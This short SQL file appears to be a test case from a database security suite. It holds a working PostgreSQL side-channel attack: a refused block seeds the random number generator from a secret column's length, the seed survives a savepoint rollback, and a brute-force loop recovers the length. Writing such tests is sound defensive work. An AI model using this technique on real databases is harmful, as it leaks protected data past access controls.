-- Goes back to a savepoint before a refused block that has sown random numbers by the value, and keeps one.
-- wants: read
-- shows: the secret has 20 letters
-- attack:
CREATE TEMP TABLE told (told float);
BEGIN;
SAVEPOINT before;
DO $$ BEGIN PERFORM setseed((SELECT length(secret) FROM vlt_account LIMIT 1) / 1000.0); RAISE EXCEPTION 'enough'; END $$;
ROLLBACK TO before;
INSERT INTO told SELECT random();
COMMIT;
DO $$ DECLARE number float := (SELECT told FROM told); BEGIN
  FOR n IN 1..100 LOOP
    PERFORM setseed(n / 1000.0);
    IF random() = number THEN RAISE NOTICE 'the secret has % letters', n; END IF;
  END LOOP;
END $$;
